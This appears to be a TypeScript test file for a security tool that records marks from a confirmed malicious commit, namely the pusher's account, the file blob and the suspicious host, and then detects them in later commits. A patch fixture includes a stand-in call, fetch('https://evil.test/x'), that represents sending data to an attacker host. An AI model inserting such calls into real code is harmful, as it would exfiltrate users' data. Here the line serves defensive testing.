/** What a confirmed finding marks, and where it is met again: what is proven, and never what anybody can write. */
import type { Signature } from "../../src/engine/index.ts";
import { knownBadIn, marksOf } from "../../src/pipeline/known-bad.ts";
import type { GatheredCommit, KnownBadMark } from "../../src/pipeline/ports.ts";
import { aGathered } from "../judge/a-gathered.ts";
import { aFinding, aLeak } from "../report/a-report.ts";

const BLOB = "2".repeat(40);
const PATCH =
  "@@ -1 +1,2 @@\n+fetch('https://evil.test/x'); get('https://api.github.com')\n-old('https://gone.test')\n";
const FINDING = aFinding({ path: "a.js", because: "data goes to evil.test, api.github.com and gone.test" });
const GITHUB = { name: "GitHub", email: "noreply@github.com", at: 0, offsetMinutes: 0 };
const verified: Signature = {
  presence: "present",
  format: "openpgp",
  keyId: null,
  verification: { verified: true, reason: "valid" },
};

function aCommit(parts: Partial<GatheredCommit> = {}, blob: string | null = BLOB, patch = PATCH): GatheredCommit {
  const gathered = aGathered("m");
  const files = gathered.files.map((file) => ({ ...file, newBlob: blob, patch }));
  const arrival = {
    ...{ at: 0, ref: "refs/heads/main", isDefaultBranch: true, forced: false, created: false, deleted: false },
    ...{ sender: { login: "mallory", id: 66, type: "User" as const }, pusherName: "ada", pullRequest: null },
  };
  return { ...gathered, files, arrival, ...parts };
}

const marked = (gathered: GatheredCommit, finding: Parameters<typeof marksOf>[0] = FINDING) =>
  marksOf(finding, gathered).map(({ kind, value }) => `${kind} ${value}`);

test("marks who pushed it, the exact file, and the host that it names and that is nobody else's", () => {
  expect(marked(aCommit())).toEqual(["account 66", `blob ${BLOB}`, "host evil.test"]);
});

test("whoever merges on the platform has not made what is merged", () => {
  const merge = { committer: GITHUB, signature: verified };
  expect(marked(aCommit(merge))).toEqual([`blob ${BLOB}`, "host evil.test"]);
  const landing = { sha: "e".repeat(40), author: GITHUB, committer: GITHUB, signature: verified };
  expect(marked(aCommit({ landing }))).toEqual([`blob ${BLOB}`, "host evil.test"]);
});

test("whose signature the platform verified made it; a name or an unverified signature proves nothing", () => {
  const accounts = { author: null, committer: { login: "eve", id: 67, type: "User" as const } };
  const landing = { sha: "e".repeat(40), author: GITHUB, committer: GITHUB, signature: verified };
  const signed = { accounts, landing, signature: verified };
  expect(marked(aCommit(signed))).toContain("account 67");
  const forged = { ...signed, signature: { ...verified, verification: { verified: false, reason: "invalid" } } };
  expect(marked(aCommit(forged))).not.toContain("account 67");
  expect(marked(aCommit({ accounts, landing }))).not.toContain("account 67");
});

test.each([
  [
    "an empty file is everybody's",
    aCommit({}, "e69de29bb2d1d6434b8b29ae775ad8c2e48c5391", ""),
    FINDING,
    ["account 66"],
  ],
  ["a deleted file has no content", aCommit({}, null, ""), FINDING, ["account 66"]],
  ["a finding about no file marks who made it", aCommit(), aFinding({ path: null }), ["account 66"]],
  [
    "a faked contribution marks no content",
    aCommit(),
    aFinding({ path: "a.js", axis: "contribution" }),
    ["account 66"],
  ],
  ["a leak marks nobody", aCommit(), aLeak({ path: "a.js" }), []],
] as const)("%s", (_, gathered, finding, expected) => {
  expect(marked(gathered, finding)).toEqual(expected);
});

describe("met again", () => {
  const aMark = (parts: Partial<KnownBadMark>): KnownBadMark => ({
    kind: "blob",
    value: BLOB,
    commit: "f".repeat(40),
    confirmedAt: 5,
    elsewhere: false,
    ...parts,
  });
  const met = (gathered: GatheredCommit, ...marks: KnownBadMark[]) =>
    knownBadIn(gathered, marks).map(({ kind, what }) => `${kind} ${what}`);

  test("are the account, the file under another name, and the host", () => {
    const marks = [aMark({}), aMark({ kind: "account", value: "66" }), aMark({ kind: "host", value: "evil.test" })];
    expect(met(aCommit(), ...marks)).toEqual(["account mallory", "blob a.js", "host evil.test"]);
  });

  test("is not what the confirmed commit itself has", () => {
    expect(met(aCommit(), aMark({ commit: aCommit().sha }))).toEqual([]);
  });

  test("is no host that was removed, and no account that is only named", () => {
    const marks = [aMark({ kind: "host", value: "gone.test" }), aMark({ kind: "account", value: "67" })];
    const accounts = { author: null, committer: { login: "eve", id: 67, type: "User" as const } };
    expect(met(aCommit({ accounts }), ...marks)).toEqual([]);
  });
});
